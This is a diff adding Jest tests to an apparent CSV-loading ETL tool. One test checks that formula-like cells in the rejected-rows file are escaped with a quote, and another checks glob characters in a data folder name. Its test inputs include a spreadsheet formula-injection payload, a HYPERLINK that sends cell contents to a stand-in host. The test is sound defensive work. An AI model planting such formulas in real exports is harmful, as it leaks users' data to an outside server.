@@ -1,3 +1,4 @@
+import { readFileSync } from 'node:fs';
 import { dirname, join } from 'node:path';
 import { gzipSync } from 'node:zlib';
 import { afterEach, describe, expect, it } from '@jest/globals';
@@ -58,6 +59,27 @@ describe('a path', () => {
     const { store } = await files.load(path);
     expect(await brands(store)).toEqual(['own']);
     expect((await store.client.query('select user_id from events')).rows).toEqual([{ user_id: '1' }]);
+  });
+});
+
+describe('the file of rejected rows', () => {
+  it.each(['=HYPERLINK("http://x.test/?"&A1)', '+1', '-1', '@SUM(A1)'])('has no formula where a row begins with %s', async (formula) => {
+    const { output } = await files.load(files.file(csv(`${formula},view,1,5,home,b,1.00,1,`), 'formula.csv'));
+    const path = /with line and reason in (.*)\)\n/.exec(output)?.[1] ?? '';
+    const [, record = ''] = readFileSync(path, 'utf8').split('\n');
+    const raw = /^2,("(?:[^"]|"")*"|[^,]*),"(.*)"$/.exec(record)?.[2]?.replaceAll('""', '"');
+    expect(raw).toBe(`'${formula},view,1,5,home,b,1.00,1,`);
+  });
+});
+
+describe('a folder for data', () => {
+  it('may have a name that is a pattern', async () => {
+    const store = await files.newStore();
+    const first = files.file(csv(row(0, 'a')), 'a.csv');
+    const second = files.file(csv(row(1, 'b').replace('2019-07', '2019-08')), 'b.csv');
+    const DATA_DIR = join(dirname(first), 'data [1]*');
+    for (const file of [first, second]) expect((await runEtl(store.url, ['load', file], { DATA_DIR })).code).toBe(0);
+    expect(await brands(store)).toEqual(['a', 'b']);
   });
 });
 
